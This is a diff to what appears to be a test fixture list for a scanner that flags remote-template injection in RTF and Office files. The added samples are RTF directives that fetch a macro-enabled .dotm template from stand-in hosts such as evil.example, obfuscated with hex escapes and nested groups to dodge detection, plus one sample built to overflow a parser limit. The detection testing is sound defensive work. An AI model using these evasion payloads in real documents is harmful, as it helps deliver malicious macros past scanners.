@@ -16,6 +16,12 @@ FOUND = [
     (rb"{\rtf1{\*\template http://a.example/t.dotm}}", "office_remote_template"),
     (rb"{\rtf1{\*\template \'68ttp://a.example/t.dotm}}", "office_remote_template"),
     (rb"{\rtf1{\*\template \\\\server\\t.dotm}}", "office_remote_template"),
+    (rb"{\rtf1{\*\template h{\*\xx }t\'74p:/{}/evil.example/t.dotm}}", "office_remote_template"),
+    (rb"{\rtf1{\*\template h{\*\xx{y}z}ttp://a.example/t.dotm}}", "office_remote_template"),
+    (rb"{\rtf1{\*\template {{h}ttp}://a.example/t.dotm}}", "office_remote_template"),
+    (rb"{\rtf1{\*\template {\*\xx \}}http://a.example/t.dotm}}", "office_remote_template"),
+    (rb"{\rtf1{\*\template {\*\xx http://a.example/t.dotm}}}", "office_remote_template"),
+    (rb"{\rtf1" + rb"{\*\template C:\\a}" * 101 + rb"}", "office_not_fully_read"),
     (rb"{\rtf1{\*\template C:\\Normal.dotm}}", "office_local_template"),
 ]  # fmt: skip
 
